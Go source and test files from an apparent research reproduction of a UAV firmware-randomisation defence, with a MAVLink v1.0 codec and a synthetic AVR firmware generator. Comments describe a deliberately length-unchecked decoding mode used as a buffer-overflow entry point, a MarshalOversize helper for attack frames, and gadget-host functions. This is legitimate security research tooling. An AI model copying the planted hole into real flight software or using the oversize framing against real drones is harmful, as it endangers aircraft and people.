				Param1: 0, Param2: 5, Param3: 0, Param4: 0,
				X: 40.43386, Y: -86.89225, Z: 100,
				Seq: 3, Command: 16, TargetSystem: 1, TargetComponent: 1,
				Frame: 3, Current: 0, Autocontinue: 1,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalMissionItem(p) },
		},
		{
			id:        mavlink.MsgIDMissionRequest,
			want:      &mavlink.MissionRequest{Seq: 7, TargetSystem: 255, TargetComponent: 190},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalMissionRequest(p) },
		},
		{
			id:        mavlink.MsgIDMissionCount,
			want:      &mavlink.MissionCount{Count: 12, TargetSystem: 1, TargetComponent: 1},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalMissionCount(p) },
		},
		{
			id:        mavlink.MsgIDMissionAck,
			want:      &mavlink.MissionAck{TargetSystem: 255, TargetComponent: 190, Type: 0},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalMissionAck(p) },
		},
		{
			id: mavlink.MsgIDVFRHud,
			want: &mavlink.VFRHud{
				Airspeed: 22.5, Groundspeed: 21, Alt: 188, Climb: -0.4,
				Heading: 274, Throttle: 63,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalVFRHud(p) },
		},
		{
			id: mavlink.MsgIDCommandLong,
			want: &mavlink.CommandLong{
				Param: [7]float32{1, 0, 0, 0, 40.4, -86.8, 120}, Command: 22,
				TargetSystem: 1, TargetComponent: 1, Confirmation: 0,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalCommandLong(p) },
		},
		{
			id:        mavlink.MsgIDCommandAck,
			want:      &mavlink.CommandAck{Command: 22, Result: 0},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalCommandAck(p) },
		},
		{
			id: mavlink.MsgIDParamValue,
			want: &mavlink.ParamValue{
				ParamValue: 4.5, ParamCount: 500, ParamIndex: 12,
				ParamID: "RATE_RLL_P", ParamType: 9,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalParamValue(p) },
		},
		{
			id: mavlink.MsgIDParamRequestRead,
			want: &mavlink.ParamRequestRead{
				ParamIndex: -1, TargetSystem: 1, TargetComponent: 1, ParamID: "RATE_RLL_P",
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalParamRequestRead(p) },
		},
		{
			id: mavlink.MsgIDRawIMU,
			want: &mavlink.RawIMU{
				TimeUsec: 777, Xacc: 1, Yacc: -2, Zacc: 1000,
				Xgyro: 5, Ygyro: -6, Zgyro: 7, Xmag: 120, Ymag: -340, Zmag: 560,
			},
			unmarshal: func(p []byte) (any, error) { return mavlink.UnmarshalRawIMU(p) },
		},
	}

	for _, tc := range cases {
		m, ok := tc.want.(interface{ Marshal() []byte })
		if !ok {
			t.Fatalf("message %d lacks Marshal", tc.id)
		}
		payload := m.Marshal()
		if want, _ := mavlink.ExpectedLen(tc.id); len(payload) != want {
			t.Errorf("id %d: payload %d bytes, schema says %d", tc.id, len(payload), want)
		}
		got, err := tc.unmarshal(payload)
		if err != nil {
			t.Fatalf("id %d: %v", tc.id, err)
		}
		if !reflect.DeepEqual(got, tc.want) {
			t.Errorf("id %d round trip:\ngot  %+v\nwant %+v", tc.id, got, tc.want)
		}
		// Through a full strict frame.
		fr := &mavlink.Frame{MsgID: tc.id, SysID: 1, CompID: 1, Payload: payload}
		wire, err := fr.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		var p mavlink.Parser
		p.StrictLength = true
		frames := p.FeedBytes(wire)
		if len(frames) != 1 {
			t.Fatalf("id %d: strict parser rejected the frame", tc.id)
		}
	}
}

func TestCRCExtraCoversAllSchemas(t *testing.T) {
	for _, id := range []byte{
		mavlink.MsgIDHeartbeat, mavlink.MsgIDSysStatus, mavlink.MsgIDParamRequestRead,
		mavlink.MsgIDParamRequestList, mavlink.MsgIDParamValue, mavlink.MsgIDParamSet,
		mavlink.MsgIDGPSRawInt, mavlink.MsgIDRawIMU, mavlink.MsgIDAttitude,
		mavlink.MsgIDGlobalPositionInt, mavlink.MsgIDRCChannelsRaw, mavlink.MsgIDServoOutputRaw,
		mavlink.MsgIDMissionItem, mavlink.MsgIDMissionRequest, mavlink.MsgIDMissionCount,
		mavlink.MsgIDMissionAck, mavlink.MsgIDVFRHud, mavlink.MsgIDCommandLong,
		mavlink.MsgIDCommandAck, mavlink.MsgIDStatusText,
	} {
		if _, ok := mavlink.CRCExtra(id); !ok {
			t.Errorf("no CRC_EXTRA for message id %d", id)
		}
		if _, ok := mavlink.ExpectedLen(id); !ok {
			t.Errorf("no schema length for message id %d", id)
		}
	}
}

// The mission (waypoint) upload dialogue round-trips message by message.
func TestMissionProtocolDialogue(t *testing.T) {
	var p mavlink.Parser
	p.StrictLength = true
	send := func(id byte, payload []byte) *mavlink.Frame {
		fr := &mavlink.Frame{MsgID: id, SysID: 255, CompID: 190, Payload: payload}
		wire, err := fr.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		frames := p.FeedBytes(wire)
		if len(frames) != 1 {
			t.Fatalf("message %d dropped", id)
		}
		return frames[0]
	}
	send(mavlink.MsgIDMissionCount, (&mavlink.MissionCount{Count: 2, TargetSystem: 1}).Marshal())
	send(mavlink.MsgIDMissionRequest, (&mavlink.MissionRequest{Seq: 0, TargetSystem: 255}).Marshal())
	f := send(mavlink.MsgIDMissionItem, (&mavlink.MissionItem{Seq: 0, Command: 16, X: 1, Y: 2, Z: 3}).Marshal())
	item, err := mavlink.UnmarshalMissionItem(f.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if item.X != 1 || item.Y != 2 || item.Z != 3 {
		t.Errorf("waypoint corrupted: %+v", item)
	}
	send(mavlink.MsgIDMissionAck, (&mavlink.MissionAck{Type: 0}).Marshal())
}
