package mavlink

// Batching helpers for datagram transports (internal/netlink): a UDP
// datagram carries one or more complete frames back to back, so the
// sender packs with MarshalBatch/AppendMarshal and the receiver
// recovers the frames with SplitBatch without running the incremental
// byte-stream Parser.

// MarshalBatch concatenates the wire encodings of frames into one
// buffer, suitable as a single datagram payload. It fails on the first
// oversize payload, returning what was packed so far.
func MarshalBatch(frames []*Frame) ([]byte, error) {
	size := 0
	for _, f := range frames {
		size += 8 + len(f.Payload)
	}
	out := make([]byte, 0, size)
	for _, f := range frames {
		var err error
		out, err = f.AppendMarshal(out)
		if err != nil {
			return out, err
		}
	}
	return out, nil
}

// SplitBatch parses a buffer of back-to-back conformant frames (the
// inverse of MarshalBatch). It returns the frames decoded before the
// first error; a nil error means the buffer was consumed exactly.
func SplitBatch(data []byte) ([]*Frame, error) {
	var out []*Frame
	for off := 0; off < len(data); {
		f, n, err := Unmarshal(data[off:])
		if err != nil {
			return out, err
		}
		out = append(out, f)
		off += n
	}
	return out, nil
}
