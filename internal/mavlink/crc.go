// Package mavlink implements the MAVLink v1.0 wire protocol used
// between a UAV autopilot and its ground station (paper §II-C, Fig. 2).
// A packet is a 6-byte header (magic, length, sequence, system id,
// component id, message id), a payload of up to 255 bytes and a 2-byte
// X.25 checksum seeded with a per-message CRC_EXTRA byte.
//
// The package provides both a conformant parser and the deliberately
// length-unchecked decoding mode the paper injects into the ArduPlane
// firmware to create the buffer-overflow entry point for its ROP
// attacks (§IV-B).
package mavlink

// X25InitCRC is the initial value of the X.25 checksum.
const X25InitCRC uint16 = 0xFFFF

// CRCAccumulate folds one byte into the X.25 CRC (the MAVLink
// crc_calculate algorithm).
func CRCAccumulate(b byte, crc uint16) uint16 {
	tmp := b ^ byte(crc&0xFF)
	tmp ^= tmp << 4
	return (crc >> 8) ^ uint16(tmp)<<8 ^ uint16(tmp)<<3 ^ uint16(tmp)>>4
}

// CRC computes the X.25 checksum of data starting from X25InitCRC.
func CRC(data []byte) uint16 {
	crc := X25InitCRC
	for _, b := range data {
		crc = CRCAccumulate(b, crc)
	}
	return crc
}
