package mavlink

import (
	"errors"
	"fmt"
)

// Magic is the MAVLink v1.0 start-of-frame marker (the paper's "state
// magic number").
const Magic = 0xFE

// MaxPayload is the largest payload a conformant v1.0 frame carries.
const MaxPayload = 255

// Message ids used by this reproduction (MAVLink v1 common set).
const (
	MsgIDHeartbeat         = 0
	MsgIDSysStatus         = 1
	MsgIDParamRequestRead  = 20
	MsgIDParamRequestList  = 21
	MsgIDParamValue        = 22
	MsgIDParamSet          = 23
	MsgIDGPSRawInt         = 24
	MsgIDRawIMU            = 27
	MsgIDAttitude          = 30
	MsgIDGlobalPositionInt = 33
	MsgIDRCChannelsRaw     = 35
	MsgIDServoOutputRaw    = 36
	MsgIDMissionItem       = 39
	MsgIDMissionRequest    = 40
	MsgIDMissionCount      = 44
	MsgIDMissionAck        = 47
	MsgIDVFRHud            = 74
	MsgIDCommandLong       = 76
	MsgIDCommandAck        = 77
	MsgIDStatusText        = 253
)

// crcExtra is the per-message CRC seed byte from the MAVLink common
// message definitions; it binds the checksum to the message schema.
var crcExtra = map[byte]byte{
	MsgIDHeartbeat:         50,
	MsgIDSysStatus:         124,
	MsgIDParamRequestRead:  214,
	MsgIDParamRequestList:  159,
	MsgIDParamValue:        220,
	MsgIDParamSet:          168,
	MsgIDGPSRawInt:         24,
	MsgIDRawIMU:            144,
	MsgIDAttitude:          39,
	MsgIDGlobalPositionInt: 104,
	MsgIDRCChannelsRaw:     244,
	MsgIDServoOutputRaw:    222,
	MsgIDMissionItem:       254,
	MsgIDMissionRequest:    230,
	MsgIDMissionCount:      221,
	MsgIDMissionAck:        153,
	MsgIDVFRHud:            20,
	MsgIDCommandLong:       152,
	MsgIDCommandAck:        143,
	MsgIDStatusText:        83,
}

// expectedLen is the schema payload length per message id; a conformant
// decoder rejects frames whose length field disagrees. Disabling this
// check is exactly the vulnerability the paper injects.
var expectedLen = map[byte]int{
	MsgIDHeartbeat:         9,
	MsgIDSysStatus:         31,
	MsgIDParamRequestRead:  20,
	MsgIDParamRequestList:  2,
	MsgIDParamValue:        25,
	MsgIDParamSet:          23,
	MsgIDGPSRawInt:         30,
	MsgIDRawIMU:            26,
	MsgIDAttitude:          28,
	MsgIDGlobalPositionInt: 28,
	MsgIDRCChannelsRaw:     22,
	MsgIDServoOutputRaw:    21,
	MsgIDMissionItem:       37,
	MsgIDMissionRequest:    4,
	MsgIDMissionCount:      4,
	MsgIDMissionAck:        3,
	MsgIDVFRHud:            20,
	MsgIDCommandLong:       33,
	MsgIDCommandAck:        3,
	MsgIDStatusText:        51,
}

// CRCExtra returns the CRC seed byte for a message id.
func CRCExtra(msgID byte) (byte, bool) {
	b, ok := crcExtra[msgID]
	return b, ok
}

// ExpectedLen returns the schema payload length for a message id.
func ExpectedLen(msgID byte) (int, bool) {
	n, ok := expectedLen[msgID]
	return n, ok
}

// Frame is one MAVLink v1.0 packet.
type Frame struct {
	Len      byte // payload length as declared on the wire
	Seq      byte // packet sequence number
	SysID    byte // id of message sender
	CompID   byte // id of message sender component
	MsgID    byte // id of message in payload
	Payload  []byte
	Checksum uint16
}

// Framing errors.
var (
	ErrBadMagic    = errors.New("mavlink: bad start-of-frame magic")
	ErrBadChecksum = errors.New("mavlink: checksum mismatch")
	ErrBadLength   = errors.New("mavlink: payload length does not match message schema")
	ErrUnknownMsg  = errors.New("mavlink: unknown message id")
	ErrTooLong     = errors.New("mavlink: payload exceeds 255 bytes")
)

// Marshal serializes the frame, computing the checksum. It refuses
// payloads over 255 bytes; a malicious ground station uses
// MarshalOversize instead.
func (f *Frame) Marshal() ([]byte, error) {
	if len(f.Payload) > MaxPayload {
		return nil, ErrTooLong
	}
	return f.appendTo(make([]byte, 0, 8+len(f.Payload))), nil
}

// MarshalOversize serializes a frame whose payload may exceed 255
// bytes. The wire length byte wraps modulo 256, which is what lets the
// paper's attack string slip an arbitrarily long byte stream past the
// vulnerable (length-check-disabled) decoder while still carrying a
// valid checksum over the declared prefix.
func (f *Frame) MarshalOversize() []byte {
	return f.appendTo(make([]byte, 0, 8+len(f.Payload)))
}

// AppendMarshal appends the frame's wire encoding to dst and returns
// the extended slice, amortizing allocation when packing many frames
// into one buffer (a netlink datagram). Oversize payloads are refused
// as in Marshal.
func (f *Frame) AppendMarshal(dst []byte) ([]byte, error) {
	if len(f.Payload) > MaxPayload {
		return dst, ErrTooLong
	}
	return f.appendTo(dst), nil
}

func (f *Frame) appendTo(out []byte) []byte {
	start := len(out)
	out = append(out, Magic, byte(len(f.Payload)), f.Seq, f.SysID, f.CompID, f.MsgID)
	out = append(out, f.Payload...)
	crc := CRC(out[start+1:]) // magic byte excluded per spec
	if extra, ok := crcExtra[f.MsgID]; ok {
		crc = CRCAccumulate(extra, crc)
	}
	f.Checksum = crc
	f.Len = byte(len(f.Payload))
	return append(out, byte(crc), byte(crc>>8))
}

// Unmarshal parses a single conformant frame from buf, returning the
// frame and the number of bytes consumed.
func Unmarshal(buf []byte) (*Frame, int, error) {
	if len(buf) < 8 {
		return nil, 0, fmt.Errorf("mavlink: frame truncated (%d bytes)", len(buf))
	}
	if buf[0] != Magic {
		return nil, 0, ErrBadMagic
	}
	n := int(buf[1])
	total := 6 + n + 2
	if len(buf) < total {
		return nil, 0, fmt.Errorf("mavlink: frame truncated (want %d bytes, have %d)", total, len(buf))
	}
	f := &Frame{
		Len:     buf[1],
		Seq:     buf[2],
		SysID:   buf[3],
		CompID:  buf[4],
		MsgID:   buf[5],
		Payload: append([]byte(nil), buf[6:6+n]...),
	}
	f.Checksum = uint16(buf[6+n]) | uint16(buf[7+n])<<8
	crc := CRC(buf[1 : 6+n])
	extra, ok := crcExtra[f.MsgID]
	if !ok {
		return nil, total, ErrUnknownMsg
	}
	crc = CRCAccumulate(extra, crc)
	if crc != f.Checksum {
		return nil, total, ErrBadChecksum
	}
	if want := expectedLen[f.MsgID]; n != want {
		return f, total, ErrBadLength
	}
	return f, total, nil
}

// HeaderDescription returns the Fig. 2 packet-structure table as text.
func HeaderDescription() string {
	return `MAVLink v1.0 packet structure (paper Fig. 2):
  State magic number            1 byte  (0xFE)
  Length                        1 byte
  Packet sequence #             1 byte
  ID of message sender          1 byte
  ID of message sender component 1 byte
  ID of message in payload      1 byte
  Message                       <=255 bytes
  Checksum (X.25 + CRC_EXTRA)   2 bytes
`
}
