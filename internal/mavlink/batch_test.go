package mavlink_test

import (
	"bytes"
	"testing"

	"mavr/internal/mavlink"
)

func testFrames() []*mavlink.Frame {
	hb := &mavlink.Heartbeat{Type: 1, Autopilot: 3, SystemStatus: mavlink.StateActive, MavlinkVersion: 3}
	var frames []*mavlink.Frame
	for i := 0; i < 5; i++ {
		frames = append(frames, &mavlink.Frame{
			MsgID:   mavlink.MsgIDHeartbeat,
			SysID:   1,
			CompID:  1,
			Seq:     byte(i),
			Payload: hb.Marshal(),
		})
	}
	return frames
}

func TestMarshalBatchRoundTrip(t *testing.T) {
	frames := testFrames()
	wire, err := mavlink.MarshalBatch(frames)
	if err != nil {
		t.Fatal(err)
	}
	got, err := mavlink.SplitBatch(wire)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(frames) {
		t.Fatalf("split %d frames, want %d", len(got), len(frames))
	}
	for i, f := range got {
		if f.Seq != frames[i].Seq || f.MsgID != frames[i].MsgID {
			t.Errorf("frame %d: seq=%d msgid=%d", i, f.Seq, f.MsgID)
		}
		if !bytes.Equal(f.Payload, frames[i].Payload) {
			t.Errorf("frame %d payload mismatch", i)
		}
	}
}

func TestAppendMarshalMatchesMarshal(t *testing.T) {
	f := testFrames()[0]
	single, err := f.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	appended, err := f.AppendMarshal([]byte{0xAA, 0xBB})
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(appended[:2], []byte{0xAA, 0xBB}) {
		t.Fatal("prefix clobbered")
	}
	if !bytes.Equal(appended[2:], single) {
		t.Fatalf("append encoding differs from Marshal:\n%x\n%x", appended[2:], single)
	}
}

func TestAppendMarshalRefusesOversize(t *testing.T) {
	f := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: make([]byte, 300)}
	dst := []byte{1, 2, 3}
	out, err := f.AppendMarshal(dst)
	if err != mavlink.ErrTooLong {
		t.Fatalf("err = %v, want mavlink.ErrTooLong", err)
	}
	if len(out) != 3 {
		t.Fatalf("dst grew to %d bytes on refusal", len(out))
	}
}

func TestSplitBatchStopsAtCorruption(t *testing.T) {
	wire, err := mavlink.MarshalBatch(testFrames()[:3])
	if err != nil {
		t.Fatal(err)
	}
	// Corrupt the second frame's checksum.
	frameLen := len(wire) / 3
	wire[frameLen+frameLen-1] ^= 0xFF
	got, err := mavlink.SplitBatch(wire)
	if err == nil {
		t.Fatal("corruption not reported")
	}
	if len(got) != 1 {
		t.Fatalf("decoded %d frames before the corruption, want 1", len(got))
	}
}
