package firmware

import (
	"fmt"
	"math/rand"

	"mavr/internal/asm"
	"mavr/internal/avr"
	"mavr/internal/elfobj"
)

// Image is a generated autopilot firmware build.
type Image struct {
	Spec   AppSpec
	Mode   ToolchainMode
	Layout Layout
	// ELF is the linked executable with full symbol information, the
	// artifact the MAVR preprocessor consumes.
	ELF *elfobj.File
	// Flash is the flat flash image (== ELF.Text).
	Flash []byte
	// PtrFlashOffsets are the flash byte offsets (inside the .data load
	// image) of every function-pointer word; ground truth for testing
	// the preprocessor's pointer scan.
	PtrFlashOffsets []uint32
	// PtrDataAddrs are the matching data-space addresses after startup
	// copies .data to SRAM.
	PtrDataAddrs []uint16
	// Bootloader is the fixed-location serial bootloader code placed at
	// BootloaderStart (nil for hardware-ISP builds).
	Bootloader []byte
	// RelaxedCalls counts call->rcall linker relaxations (stock mode).
	RelaxedCalls int
	// SharedPrologues counts functions using the -mcall-prologues
	// shared save/restore blocks (stock mode).
	SharedPrologues int
}

const (
	schedTableLen  = 16
	directTableLen = 8
)

type funcSym struct {
	name       string
	label      string
	start, end uint32 // word addresses
}

type generator struct {
	spec    AppSpec
	mode    ToolchainMode
	rng     *rand.Rand
	b       *asm.Builder
	funcs   []funcSym
	depth   map[int]int
	relaxed int
	shared  int
	layout  Layout

	ptrFlashOffsets []uint32
	ptrDataAddrs    []uint16
}

func (g *generator) schedLen() int { return schedTableLen }

func (g *generator) directLen() int { return directTableLen }

func (g *generator) dataLoadSize() int {
	n := schedTableLen * 2
	if g.spec.DirectPointerTable {
		n += directTableLen * 2
	}
	return n + WaypointCount*WaypointSize
}

// waypointsAddr is the data-space address of the mission table, after
// the function-pointer tables in .data.
func (g *generator) waypointsAddr() uint16 {
	n := schedTableLen * 2
	if g.spec.DirectPointerTable {
		n += directTableLen * 2
	}
	return uint16(int(AddrDataSection) + n)
}

// beginFunc/endFunc bracket one function's emission for the symbol
// table.
func (g *generator) beginFunc(name, label string) {
	g.funcs = append(g.funcs, funcSym{name: name, label: label, start: g.b.Here()})
}

func (g *generator) endFunc() {
	g.funcs[len(g.funcs)-1].end = g.b.Here()
}

func (g *generator) runtimeFunc(name string, emit func()) {
	g.beginFunc(name, name)
	emit()
	g.endFunc()
}

// Generate builds the application described by spec with the given
// toolchain mode.
func Generate(spec AppSpec, mode ToolchainMode) (*Image, error) {
	g := &generator{
		spec:  spec,
		mode:  mode,
		rng:   rand.New(rand.NewSource(spec.Seed ^ int64(mode)<<32)),
		b:     asm.NewBuilder(),
		depth: make(map[int]int),
	}
	b := g.b

	// --- Interrupt vector table (fixed region; targets patched). ---
	for v := 0; v < NumVectors; v++ {
		switch v {
		case avr.VectorReset:
			b.JMP("__init")
		case avr.VectorTimer0Ovf:
			b.JMP("__vector_timer0")
		default:
			b.JMP("__bad_interrupt")
		}
	}
	g.layout.VectorWords = b.Here()

	// --- Dispatch stub table (fixed low-flash region). Scheduler
	// function pointers aim here so 16-bit pointers stay valid on a
	// 256KB device; the stub jmp targets are patched on randomization.
	g.layout.StubTableStart = b.Here()
	g.layout.StubCount = schedTableLen
	taskBase := g.generatedCount() - schedTableLen
	for i := 0; i < schedTableLen; i++ {
		b.Label(stubLabel(i))
		b.JMP(fnLabel(taskBase + i))
	}

	// --- Shuffleable function region. ---
	// The runtime functions are interleaved at seed-dependent positions
	// among the generated ones, so different builds (and different
	// applications) place every function — including the attack's
	// gadget hosts and the vulnerable handler — at different addresses,
	// as a real link order would.
	g.layout.FuncRegionStart = b.HereBytes()
	n := g.generatedCount()
	if n < schedTableLen+directTableLen {
		return nil, fmt.Errorf("firmware: %s needs at least %d functions, spec has %d total",
			spec.Name, schedTableLen+directTableLen+g.runtimeFuncCount(), spec.Functions)
	}
	type rtEmit struct {
		name string
		emit func()
	}
	runtimeFns := []rtEmit{
		{"__init", g.emitInit},
		{"__bad_interrupt", g.emitBadInterrupt},
		{"__vector_timer0", g.emitTimerISR},
		{"main_loop", g.emitMainLoop},
		{"gyro_update", g.emitGyroUpdate},
		{"rx_byte", g.emitRxByte},
		{"handle_param_set", g.emitHandleParamSet},
		{"sched_dispatch", g.emitSchedDispatch},
		{"AP_AHRS_update_matrix_fp", g.emitStkMoveHost},
		{"AP_Param_save_block_fp", g.emitWriteMemHost},
		{"nav_update", g.emitNavUpdate},
		{"mav_tx_frame", g.emitMavTxFrame},
		{"mav_send_heartbeat", g.emitSendHeartbeat},
		{"mav_send_raw_imu", g.emitSendRawIMU},
		{"mav_send_param_value", g.emitSendParamValue},
	}
	if spec.StackCanaries {
		runtimeFns = append(runtimeFns, rtEmit{"__canary_fail", g.emitCanaryFail})
	}
	insertAt := make(map[int][]rtEmit)
	for _, rf := range runtimeFns {
		at := g.rng.Intn(n)
		insertAt[at] = append(insertAt[at], rf)
	}
	avgBody := g.bodyBudget(n)
	if mode == ModeStock {
		g.emitStockBlocks()
	}
	for i := 0; i < n; i++ {
		for _, rf := range insertAt[i] {
			g.runtimeFunc(rf.name, rf.emit)
		}
		body := avgBody/2 + g.rng.Intn(avgBody+1)
		g.beginFunc(funcName(g.rng, i), fnLabel(i))
		g.emitFunction(i, body)
		g.endFunc()
	}
	g.layout.FuncRegionEnd = b.HereBytes()

	// --- .data load image: the function-pointer tables. ---
	b.Label("__data_load")
	g.layout.DataLoadStart = b.HereBytes()
	for i := 0; i < schedTableLen; i++ {
		g.ptrFlashOffsets = append(g.ptrFlashOffsets, b.HereBytes())
		g.ptrDataAddrs = append(g.ptrDataAddrs, uint16(int(AddrDataSection)+2*i))
		b.DWLabel(stubLabel(i))
	}
	if spec.DirectPointerTable {
		for i := 0; i < directTableLen; i++ {
			g.ptrFlashOffsets = append(g.ptrFlashOffsets, b.HereBytes())
			g.ptrDataAddrs = append(g.ptrDataAddrs, uint16(int(AddrDataSection)+2*(schedTableLen+i)))
			// Raw word addresses of low-flash functions.
			b.DWLabel(fnLabel(i))
		}
	}
	// Mission table: WaypointCount waypoints of (lat16, lon16) bytes.
	g.layout.WaypointsAddr = g.waypointsAddr()
	for i := 0; i < WaypointCount; i++ {
		b.DW(uint16(0x1000 + g.rng.Intn(0x8000))) // lat
		b.DW(uint16(0x1000 + g.rng.Intn(0x8000))) // lon
	}
	g.layout.DataLoadSize = uint32(g.dataLoadSize())
	g.layout.SchedTableAddr = AddrDataSection
	g.layout.SchedTableLen = schedTableLen
	if spec.DirectPointerTable {
		g.layout.DirectTableAddr = uint16(int(AddrDataSection) + 2*schedTableLen)
		g.layout.DirectTableLen = directTableLen
	}

	// --- Calibration table: pad to the paper's exact code size. ---
	g.layout.CalibrationStart = b.HereBytes()
	target := spec.TargetSize
	if mode == ModeStock {
		target = spec.TargetSizeStock
	}
	if target > 0 {
		cur := int(b.HereBytes())
		if cur > target {
			return nil, fmt.Errorf("firmware: %s/%s generated %d bytes, exceeds target %d",
				spec.Name, mode, cur, target)
		}
		for int(b.HereBytes()) < target {
			b.DW(uint16(g.rng.Intn(0x10000)))
		}
	}
	g.layout.CalibrationSize = b.HereBytes() - g.layout.CalibrationStart

	image, err := b.Assemble()
	if err != nil {
		return nil, fmt.Errorf("firmware: assemble %s/%s: %w", spec.Name, mode, err)
	}
	if len(image) > avr.FlashSize {
		return nil, fmt.Errorf("firmware: %s/%s image %d bytes exceeds flash", spec.Name, mode, len(image))
	}

	elf := &elfobj.File{
		Text:     image,
		Data:     append([]byte(nil), image[g.layout.DataLoadStart:g.layout.DataLoadStart+g.layout.DataLoadSize]...),
		DataAddr: AddrDataSection,
		DataLMA:  g.layout.DataLoadStart,
	}
	for _, fs := range g.funcs {
		start, ok := b.LabelAddr(fs.label)
		if !ok {
			return nil, fmt.Errorf("firmware: lost label %q", fs.label)
		}
		elf.Symbols = append(elf.Symbols, elfobj.Symbol{
			Name:  fs.name,
			Value: start * 2,
			Size:  (fs.end - fs.start) * 2,
			Kind:  elfobj.SymFunc,
		})
	}
	elf.Symbols = append(elf.Symbols, elfobj.Symbol{
		Name: "scheduler_tasks", Value: AddrDataSection,
		Size: uint32(schedTableLen * 2), Kind: elfobj.SymObject,
	})
	elf.Symbols = append(elf.Symbols, elfobj.Symbol{
		Name: "mission_waypoints", Value: uint32(g.layout.WaypointsAddr),
		Size: uint32(WaypointCount * WaypointSize), Kind: elfobj.SymObject,
	})
	if spec.DirectPointerTable {
		elf.Symbols = append(elf.Symbols, elfobj.Symbol{
			Name: "dispatch_direct", Value: uint32(g.layout.DirectTableAddr),
			Size: uint32(directTableLen * 2), Kind: elfobj.SymObject,
		})
	}

	out := &Image{
		Spec:            spec,
		Mode:            mode,
		Layout:          g.layout,
		ELF:             elf,
		Flash:           image,
		PtrFlashOffsets: g.ptrFlashOffsets,
		PtrDataAddrs:    g.ptrDataAddrs,
		RelaxedCalls:    g.relaxed,
		SharedPrologues: g.shared,
	}
	if spec.Bootloader {
		boot, err := GenerateBootloader()
		if err != nil {
			return nil, fmt.Errorf("firmware: bootloader: %w", err)
		}
		if len(boot) > BootloaderMax {
			return nil, fmt.Errorf("firmware: bootloader %d bytes exceeds boot section", len(boot))
		}
		out.Bootloader = boot
	}
	return out, nil
}

// FullFlash returns the complete program memory view: the application
// image with the resident bootloader overlaid at BootloaderStart. For
// hardware-ISP builds it is just the application image.
func (img *Image) FullFlash() []byte {
	if img.Bootloader == nil {
		return img.Flash
	}
	full := make([]byte, avr.FlashSize)
	for i := range full {
		full[i] = 0xFF
	}
	copy(full, img.Flash)
	copy(full[BootloaderStart:], img.Bootloader)
	return full
}

// emitStockBlocks emits the shared -mcall-prologues save/restore blocks
// as four function symbols, as the recompiled libgcc provides them.
func (g *generator) emitStockBlocks() {
	// Re-emit with proper symbol brackets.
	for _, k := range []int{2, 4} {
		g.beginFunc(prologueBlockName(k), prologueBlockName(k))
		g.b.Label(prologueBlockName(k))
		for _, r := range savedRegs(k) {
			g.b.Emit(asm.PUSH(r))
		}
		g.b.Emit(asm.IJMP)
		g.endFunc()
		g.beginFunc(epilogueBlockName(k), epilogueBlockName(k))
		g.b.Label(epilogueBlockName(k))
		regs := savedRegs(k)
		for i := len(regs) - 1; i >= 0; i-- {
			g.b.Emit(asm.POP(regs[i]))
		}
		g.b.Emit(asm.RET)
		g.endFunc()
	}
}

// runtimeFuncCount is the number of non-generated function symbols.
func (g *generator) runtimeFuncCount() int {
	n := 15 // fixed runtime skeleton incl. ISR, nav, MAVLink TX
	if g.spec.StackCanaries {
		n++
	}
	if g.mode == ModeStock {
		n += 4 // shared call-prologue blocks
	}
	return n
}

// generatedCount is how many synthetic functions to emit so the symbol
// total matches Table I exactly.
func (g *generator) generatedCount() int { return g.spec.Functions - g.runtimeFuncCount() }

// bodyBudget estimates the average body length (words) that lands the
// image near (just under) the calibration target; the calibration table
// absorbs the remainder.
func (g *generator) bodyBudget(n int) int {
	target := g.spec.TargetSize
	if g.mode == ModeStock {
		target = g.spec.TargetSizeStock
	}
	if target == 0 {
		return 40
	}
	overheadWords := 2200 // vectors, stubs, runtime, data, slack
	avg := (target/2 - overheadWords) * 92 / 100 / n
	// Subtract the per-function prologue/epilogue/call overhead (~14w).
	avg -= 14
	if avg < 8 {
		avg = 8
	}
	return avg
}

func stubLabel(i int) string { return fmt.Sprintf("stub_%d", i) }
