package firmware_test

import (
	"testing"

	"mavr/internal/avr"
	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// testBoard wires a generated image to a CPU with a scripted UART and
// gyro sample source.
type testBoard struct {
	cpu  *avr.CPU
	rx   []byte
	tx   []byte
	gyro byte
}

func boot(t *testing.T, img *firmware.Image) *testBoard {
	t.Helper()
	tb := &testBoard{cpu: avr.New(), gyro: 10}
	if err := tb.cpu.LoadFlash(img.Flash); err != nil {
		t.Fatal(err)
	}
	tb.cpu.HookRead(firmware.AddrUCSR0A, func(byte) byte {
		v := byte(1 << firmware.BitUDRE)
		if len(tb.rx) > 0 {
			v |= 1 << firmware.BitRXC
		}
		return v
	})
	tb.cpu.HookRead(firmware.AddrUDR0, func(byte) byte {
		if len(tb.rx) == 0 {
			return 0
		}
		b := tb.rx[0]
		tb.rx = tb.rx[1:]
		return b
	})
	tb.cpu.HookWrite(firmware.AddrUDR0, func(v byte) { tb.tx = append(tb.tx, v) })
	tb.cpu.HookRead(firmware.AddrADCL, func(byte) byte { return tb.gyro })
	return tb
}

func (tb *testBoard) run(t *testing.T, cycles uint64) *avr.Fault {
	t.Helper()
	_, fault := tb.cpu.Run(cycles)
	return fault
}

func genTest(t *testing.T) *firmware.Image {
	t.Helper()
	img, err := firmware.Generate(firmware.TestApp(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func TestGenerateTestApp(t *testing.T) {
	img := genTest(t)
	if got := len(img.ELF.FuncSymbols()); got != firmware.TestApp().Functions {
		t.Errorf("function symbols = %d, want %d", got, firmware.TestApp().Functions)
	}
	if len(img.Flash) >= 128*1024 {
		t.Errorf("testapp image %d bytes, want < 128KB for direct pointers", len(img.Flash))
	}
